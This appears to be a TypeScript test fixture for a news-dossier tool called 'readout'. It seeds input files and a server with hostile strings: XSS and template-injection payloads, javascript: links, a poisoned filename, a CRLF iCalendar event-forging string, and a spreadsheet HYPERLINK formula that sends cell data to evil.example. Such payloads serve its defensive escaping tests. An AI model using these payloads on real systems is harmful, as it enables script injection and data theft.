import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { emptyFolder, readout, readoutBin } from '../cli/readout.js'

/** Closes every kind of context in HTML, SVG and scripts, and opens an element that would run code. */
export const POISON = `"'><img src=x onerror=alert(1)><script>alert(2)</script></title></textarea>\${7*7}{{7*7}}`
export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'

export type Server = {
  readonly url: string
  readonly cwd: string
  /** What it has written to stderr. */
  log(): string
  stop(): Promise<void>
}

/** A running server whose dossier has hostile words in every field that outside text reaches, names of files among them. */
export async function hostileServer(): Promise<Server> {
  const cwd = await emptyFolder()
  await mkdir(join(cwd, 'evil'))
  const quoted = JSON.stringify(POISON)
  const yaml = `id: evil
title: ${quoted}
summary: ${quoted}
parties: [russia, turkey]
period: { start: 2025-05-01 }
actors: [{ id: mallory, kind: person, name: ${quoted}, names: { en: [Mallory] }, party: turkey }]
sources: [{ id: wire, name: ${quoted}, lane: media, zone: Europe/Istanbul, matches: ['x'] }]
`
  await writeFile(join(cwd, 'evil/dossier.yaml'), yaml)
  const message = (id: number, text: string) => ({
    id,
    type: 'message',
    date: '2025-05-15T12:00:00',
    date_unixtime: '1747310400',
    from: POISON,
    from_id: 'channel77',
    author: POISON,
    forwarded_from: POISON,
    text: [text, { type: 'link', text: 'javascript:alert(3)' }],
  })
  const messages = [
    message(1, `Fidan received Lavrov in Antalya on 12 May 2025. ${POISON}`),
    message(2, `${FORMULA} Mallory met Fidan in Istanbul, according to ${POISON}`),
    message(3, `Lavrov called Fidan on 13 May 2025.\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged ${POISON}`),
  ]
  const name = `x <img src=x onerror=alert(4)>.json`
  await writeFile(join(cwd, name), JSON.stringify({ name: POISON, type: 'public_channel', id: 77, messages }))
  const page = `<html><head><title>Talks ${POISON.replaceAll('<', '&lt;')}</title><link rel=canonical href="javascript:alert(5)"></head>
<body><article><h1>Talks</h1><p>Lavrov and Fidan met in Moscow on 14 May 2025, the ministry said. ${'They spoke of trade. '.repeat(20)}</p></article></body></html>`
  await writeFile(join(cwd, 'x.html'), page)
  await readout(['import', 'evil/', name, 'x.html', '-q', '--published', '2025-05-15T00:00:00Z'], { cwd })
  await readout(['run', 'evil', '-q'], { cwd })
  return await served(cwd)
}

async function served(cwd: string): Promise<Server> {
  const env = { ...process.env, READOUT_HOME: '', READOUT_DATABASE_URL: '', READOUT_LOG: 'debug' }
  const child: ChildProcess = spawn(process.execPath, [readoutBin, 'serve', '--port', '0'], { cwd, env })
  let log = ''
  child.stderr?.on('data', (part) => {
    log += part
  })
  const [said] = (await once(child.stdout!, 'data')) as [Buffer]
  const url = /http:\/\/\S+/.exec(said.toString())?.[0] ?? ''
  const stop = async () => {
    child.kill('SIGTERM')
    await once(child, 'exit')
  }
  return { url, cwd, log: () => log, stop }
}
